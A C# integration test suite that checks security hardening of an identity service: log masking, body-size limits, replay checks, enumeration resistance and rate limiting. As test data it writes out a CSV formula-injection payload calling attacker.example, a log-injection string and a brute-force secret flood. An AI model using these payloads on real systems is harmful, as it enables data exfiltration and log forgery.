using System.Net;
using System.Net.Http.Json;
using System.Text;
using Grpc.Core;
using Medimail.Identity.V1;
using Medimail.Testing;
using Npgsql;

namespace Medimail.IdentityRegistry.IntegrationTests.Hardening;

/// <summary>
/// One test per class of fault of the hardening issue, through the real gateway and Identity-Registry's own port:
/// each checks the status, the field, that nothing was written, and that the service is still ready.
/// </summary>
public sealed class HardeningTests(IdentityFixture fixture) : IClassFixture<IdentityFixture>
{
    private static readonly string IdentityGrpc = TestEnvironment.IdentityGrpcUrl;

    [Fact]
    public async Task Production_logs_never_hold_an_enrolment_token_or_a_client_secret()
    {
        var token = "tok" + Guid.NewGuid().ToString("N");
        await using var gateway = await ProductionGateway.StartAsync();
        using (var http = new HttpClient { BaseAddress = new Uri(gateway.Url) })
        {
            await http.GetAsync($"/enrol/{token}");
            await http.PostAsync($"/api/v1/enrolments/{token}:complete", JsonContent.Create(new { password = "Un-mot-de-passe-1234" }));
            await http.GetAsync($"/api/v1/accounts/a%0A%7B%22Level%22:%22Fatal%22%7D");
            var issued = await http.PostAsync("/connect/token", new FormUrlEncodedContent(new Dictionary<string, string>
            {
                ["grant_type"] = "client_credentials", ["client_id"] = TestEnvironment.OperatorClientId, ["client_secret"] = TestEnvironment.OperatorSecret,
            }));
            Assert.Equal(HttpStatusCode.OK, issued.StatusCode);
        }
        var lines = await gateway.StopAsync();

        // Positive signal first: the request lines were written, masked, as JSON.
        Assert.Contains(lines, l => l.Contains("\"RequestPath\":\"/enrol/***\"", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Contains("/api/v1/enrolments/***:complete", StringComparison.Ordinal));
        Assert.All(lines.Where(l => l.StartsWith('{')), l => System.Text.Json.JsonDocument.Parse(l).Dispose());
        Assert.DoesNotContain(lines, l => l.Contains(token, StringComparison.Ordinal));
        Assert.DoesNotContain(lines, l => l.Contains(TestEnvironment.OperatorSecret, StringComparison.Ordinal));
        Assert.DoesNotContain(lines, l => l.StartsWith("{\"Level\":\"Fatal\"", StringComparison.Ordinal));
        // And Identity-Registry's own log (the platform's, development console) has the path masked too.
        var identityLog = await File.ReadAllTextAsync(Path.Combine(Environment.GetEnvironmentVariable("MEDIMAIL_LOG_DIR")!, "identity.log"));
        Assert.DoesNotContain(token, identityLog, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_oversized_anonymous_body_is_refused_before_it_is_buffered()
    {
        var token = "tok" + Guid.NewGuid().ToString("N");
        var body = new byte[28 * 1024 * 1024];
        Array.Fill(body, (byte)' ');
        body[0] = (byte)'{';
        body[^1] = (byte)'}';
        var before = PlatformProcess.MemoryOf("identity");

        using var gatewayHttp = new HttpClient { BaseAddress = new Uri(TestEnvironment.GatewayUrl) };
        var atGateway = await Task.WhenAll(Enumerable.Range(0, 10).Select(_ => PostAsync(gatewayHttp, $"/api/v1/enrolments/{token}:complete", body)));
        // And straight to the service's own port (REST over HTTP/2), as a caller inside the cluster could.
        using var serviceHttp = new HttpClient(new SocketsHttpHandler()) { BaseAddress = new Uri(IdentityGrpc), DefaultRequestVersion = HttpVersion.Version20,
            DefaultVersionPolicy = HttpVersionPolicy.RequestVersionExact };
        var atService = await PostAsync(serviceHttp, $"/api/v1/enrolments/{token}:complete", body);

        var after = PlatformProcess.MemoryOf("identity");
        Assert.All(atGateway, s => Assert.Equal(HttpStatusCode.RequestEntityTooLarge, s));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, atService);
        // 11 bodies of 28 MB were sent; the stated bound is far below one of them.
        Assert.True(after.Peak - before.Peak < 20L * 1024 * 1024, $"Identity-Registry's peak memory grew by {(after.Peak - before.Peak) / 1048576} MB");
        Assert.Equal(200, await PlatformProcess.ReadyStatusAsync("identity"));
    }

    private static async Task<HttpStatusCode> PostAsync(HttpClient http, string path, byte[] body)
    {
        using var content = new ByteArrayContent(body);
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
        try
        {
            using var response = await http.PostAsync(path, content);
            return response.StatusCode;
        }
        catch (HttpRequestException)
        {
            // The server may close the connection once it has answered 413 while the client still sends.
            return HttpStatusCode.RequestEntityTooLarge;
        }
    }

    [Fact]
    public async Task A_request_id_replayed_by_another_structure_or_with_another_body_never_returns_the_first_account()
    {
        var requestId = Guid.NewGuid().ToString();
        var draft = Testing.Accounts.Per();
        var first = await fixture.CreateAsync(draft.Clone(), requestId);
        var other = await fixture.Structures.CreateStructureAsync(Testing.Accounts.NewStructure());
        var elsewhere = Testing.Accounts.Per();

        var replayElsewhere = await Assert.ThrowsAsync<RpcException>(() => fixture.Accounts.CreateAccountAsync(
            new CreateAccountRequest { StructureId = other.Id, Account = elsewhere, RequestId = requestId }).ResponseAsync);
        var otherBody = Testing.Accounts.Per();
        var replayOtherBody = await Assert.ThrowsAsync<RpcException>(() => fixture.CreateAsync(otherBody, requestId));
        // The same request again, its structure id spelled in upper case: the first answer.
        var same = await fixture.Accounts.CreateAccountAsync(new CreateAccountRequest
        {
            StructureId = fixture.Structure.Id.ToUpperInvariant(), Account = draft.Clone(), RequestId = requestId,
        });

        Assert.Equal((StatusCode.AlreadyExists, StatusCode.AlreadyExists), (replayElsewhere.StatusCode, replayOtherBody.StatusCode));
        Assert.Equal(["requestId"], RpcErrors.FieldsOf(replayElsewhere));
        Assert.DoesNotContain(first.Email, replayElsewhere.Status.Detail + replayOtherBody.Status.Detail);
        Assert.Equal(first.Email, same.Email);
        foreach (var email in new[] { elsewhere.Email, otherBody.Email })
            Assert.Equal(StatusCode.NotFound, (await Assert.ThrowsAsync<RpcException>(() =>
                fixture.Accounts.GetAccountAsync(new GetAccountRequest { Email = email }).ResponseAsync)).StatusCode);
        Assert.Equal(200, await PlatformProcess.ReadyStatusAsync("identity"));
    }

    [Fact]
    public async Task A_formula_in_a_field_is_exported_as_text_and_imports_back_unchanged()
    {
        var formula = "=WEBSERVICE(\"http://attacker.example/\"&A1)";
        var org = Testing.Accounts.Org(fixture.Person.Email);
        org.Description = formula;
        var created = await fixture.CreateAsync(org);
        using var rest = Channels.Rest(await Tokens.OperatorAsync());

        var csv = await rest.GetStringAsync($"/api/v1/accounts:export?structureId={fixture.Structure.Id}&format=CSV");

        var line = csv.Split("\r\n").Single(l => l.StartsWith(created.Email + ";", StringComparison.Ordinal));
        Assert.Contains(";\"'=WEBSERVICE(\"\"http://attacker.example/\"\"&A1)\";", line);
        Assert.DoesNotContain(";=", line);
        // Round trip: the same row under a new address, imported into the structure, keeps the value without the guard.
        var copy = Unique.Email("org-copy");
        var header = csv.Split("\r\n")[0].TrimStart('\uFEFF');
        var file = Encoding.UTF8.GetBytes(header + "\r\n" + line.Replace(created.Email, copy) + "\r\n");
        var imports = new ImportService.ImportServiceClient(Channels.Create(TestEnvironment.GatewayGrpcUrl, await Tokens.OperatorAsync()));
        var job = await imports.StartImportAsync(new StartImportRequest { StructureId = fixture.Structure.Id, FileName = "copy.csv", Content = Google.Protobuf.ByteString.CopyFrom(file) });
        job = await Eventually.GetAsync(() => imports.GetImportAsync(new GetImportRequest { Id = job.Id }).ResponseAsync,
            j => j.State != ImportJob.Types.State.Running, TimeSpan.FromSeconds(60), "the round-trip import");
        Assert.True(job.CreatedCount == 1, string.Join(" | ", job.Errors.Select(e => $"{e.Column}: {e.Message}")));
        Assert.Equal(formula, (await fixture.Accounts.GetAccountAsync(new GetAccountRequest { Email = copy })).Description);
    }

    [Theory]
    [InlineData("pageToken")]
    [InlineData("query")]
    public async Task A_control_character_in_any_text_field_is_a_field_violation_not_a_500(string field)
    {
        var request = new SearchAccountsRequest { StructureId = fixture.Structure.Id };
        if (field == "pageToken") request.PageToken = "abc\0def"; else request.Query = "dupont\0";

        var refused = await Assert.ThrowsAsync<RpcException>(() => fixture.Accounts.SearchAccountsAsync(request).ResponseAsync);

        Assert.Equal(StatusCode.InvalidArgument, refused.StatusCode);
        Assert.Equal([field], RpcErrors.FieldsOf(refused));
        Assert.Equal(200, await PlatformProcess.ReadyStatusAsync("identity"));
    }

    [Fact]
    public async Task A_nested_control_character_is_refused_and_nothing_is_written()
    {
        var account = Testing.Accounts.Org(fixture.Person.Email);
        account.Description = "Secrétariat\0";
        account.ConnectionAccounts.Add("x\u0007@y.fr");

        var refused = await Assert.ThrowsAsync<RpcException>(() => fixture.CreateAsync(account));

        Assert.Equal(StatusCode.InvalidArgument, refused.StatusCode);
        Assert.Equal(["account.description", "account.connectionAccounts[1]"], RpcErrors.FieldsOf(refused));
        Assert.Equal(StatusCode.NotFound, (await Assert.ThrowsAsync<RpcException>(() =>
            fixture.Accounts.GetAccountAsync(new GetAccountRequest { Email = account.Email }).ResponseAsync)).StatusCode);
    }

    [Fact]
    public async Task A_denied_export_answers_403_before_any_byte_of_file()
    {
        var other = await fixture.Structures.CreateStructureAsync(Testing.Accounts.NewStructure());
        var connector = await fixture.Structures.CreateConnectorAsync(new CreateConnectorRequest { StructureId = other.Id, Name = "Logiciel " + Unique.Suffix() });
        using var rest = Channels.Rest(await Tokens.ClientCredentialsAsync(connector.ClientId, connector.ClientSecret));

        using var response = await rest.GetAsync($"/api/v1/accounts:export?structureId={fixture.Structure.Id}&format=CSV");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Null(response.Content.Headers.ContentDisposition);
        Assert.DoesNotContain(fixture.Person.Email, await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Thousands_of_field_violations_come_back_as_the_first_hundred_and_a_count()
    {
        var account = Testing.Accounts.Org(fixture.Person.Email);
        for (var i = 0; i < 3000; i++)
            account.ConnectionAccounts.Add($"pas-une-adresse-{i}");

        var refused = await Assert.ThrowsAsync<RpcException>(() => fixture.CreateAsync(account));

        Assert.Equal(StatusCode.InvalidArgument, refused.StatusCode);
        var status = refused.GetRpcStatus()!;
        Assert.Equal(100, status.GetDetail<Google.Rpc.BadRequest>().FieldViolations.Count);
        var info = status.GetDetail<Google.Rpc.ErrorInfo>();
        Assert.Equal("FIELD_VIOLATIONS_TRUNCATED", info.Reason);
        Assert.True(int.Parse(info.Metadata["omittedViolations"]) >= 2900);
        Assert.Equal(StatusCode.NotFound, (await Assert.ThrowsAsync<RpcException>(() =>
            fixture.Accounts.GetAccountAsync(new GetAccountRequest { Email = account.Email }).ResponseAsync)).StatusCode);
        Assert.Equal(200, await PlatformProcess.ReadyStatusAsync("identity"));
    }

    [Fact]
    public async Task A_wrong_client_id_and_a_wrong_secret_get_the_same_answer()
    {
        using var unknownClient = await Tokens.RequestAsync("inconnu-" + Unique.Suffix(), "un-secret");
        using var wrongSecret = await Tokens.RequestAsync(TestEnvironment.OperatorClientId, "pas-le-bon-secret");

        Assert.Equal(wrongSecret.StatusCode, unknownClient.StatusCode);
        Assert.Equal(await wrongSecret.Content.ReadAsStringAsync(), await unknownClient.Content.ReadAsStringAsync());
        Assert.Contains("invalid_client", await wrongSecret.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Another_structures_address_and_an_unknown_one_get_the_same_refusal_as_connection_account_and_return_address()
    {
        // Structure A is the fixture's: its person and an ORG box. A connector of structure B probes them.
        var orgOfA = await fixture.CreateAsync(Testing.Accounts.Org(fixture.Person.Email));
        var other = await fixture.Structures.CreateStructureAsync(Testing.Accounts.NewStructure());
        var connector = await fixture.Structures.CreateConnectorAsync(new CreateConnectorRequest { StructureId = other.Id, Name = "Logiciel " + Unique.Suffix() });
        using var channel = Channels.Create(TestEnvironment.GatewayGrpcUrl, await Tokens.ClientCredentialsAsync(connector.ClientId, connector.ClientSecret));
        var accountsOfB = new AccountService.AccountServiceClient(channel);

        async Task<(List<(string Field, string Message)> Violations, string Email)> ProbeAsync(string address)
        {
            var box = Testing.Accounts.App(address, address);
            var refused = await Assert.ThrowsAsync<RpcException>(() =>
                accountsOfB.CreateAccountAsync(new CreateAccountRequest { StructureId = other.Id, Account = box }).ResponseAsync);
            Assert.Equal(StatusCode.InvalidArgument, refused.StatusCode);
            var violations = refused.GetRpcStatus()!.GetDetail<Google.Rpc.BadRequest>().FieldViolations.Select(v => (v.Field, v.Description)).ToList();
            return (violations, box.Email);
        }

        var person = await ProbeAsync(fixture.Person.Email);
        var org = await ProbeAsync(orgOfA.Email);
        var unknown = await ProbeAsync(Unique.Email("personne"));

        Assert.Equal(["account.connectionAccounts[0]", "account.returnAddress"], unknown.Violations.Select(v => v.Field));
        Assert.Equal(unknown.Violations, person.Violations);
        Assert.Equal(unknown.Violations, org.Violations);
        foreach (var probe in new[] { person, org, unknown })
            Assert.Equal(StatusCode.NotFound, (await Assert.ThrowsAsync<RpcException>(() =>
                fixture.Accounts.GetAccountAsync(new GetAccountRequest { Email = probe.Email }).ResponseAsync)).StatusCode);
    }

    [Fact]
    public async Task A_flood_of_wrong_secrets_on_identitys_own_token_port_gets_429_and_another_client_still_gets_its_token()
    {
        var target = await fixture.Structures.CreateConnectorAsync(new CreateConnectorRequest { StructureId = fixture.Structure.Id, Name = "Cible " + Unique.Suffix() });
        var bystander = await fixture.Structures.CreateConnectorAsync(new CreateConnectorRequest { StructureId = fixture.Structure.Id, Name = "Voisin " + Unique.Suffix() });
        using var identity = new HttpClient { BaseAddress = new Uri(Environment.GetEnvironmentVariable("MEDIMAIL_IDENTITY_HTTP_URL")!) };
        Task<HttpResponseMessage> AskAsync(string clientId, string secret) => identity.PostAsync("/connect/token", new FormUrlEncodedContent(
            new Dictionary<string, string> { ["grant_type"] = "client_credentials", ["client_id"] = clientId, ["client_secret"] = secret }));

        var flood = await Task.WhenAll(Enumerable.Range(0, 300).Select(i => AskAsync(target.ClientId, $"devine-{i}")));
        using var rightClient = await AskAsync(bystander.ClientId, bystander.ClientSecret);

        var limited = flood.Where(r => r.StatusCode == HttpStatusCode.TooManyRequests).ToList();
        // TokenRateLimit__PermitLimit (100 per 10 s per client and address): at least 100 of 300 are refused even if a
        // window ends during the flood; none of them is ever a token.
        Assert.True(limited.Count >= 100, $"only {limited.Count} of 300 wrong secrets were limited");
        Assert.All(limited, r => Assert.True(r.Headers.RetryAfter?.Delta > TimeSpan.Zero, "429 without Retry-After"));
        Assert.DoesNotContain(flood, r => r.StatusCode == HttpStatusCode.OK);
        Assert.Equal(HttpStatusCode.OK, rightClient.StatusCode);
        Assert.Contains("access_token", await rightClient.Content.ReadAsStringAsync());
        Assert.Equal(200, await PlatformProcess.ReadyStatusAsync("identity"));
        foreach (var response in flood)
            response.Dispose();
    }
}
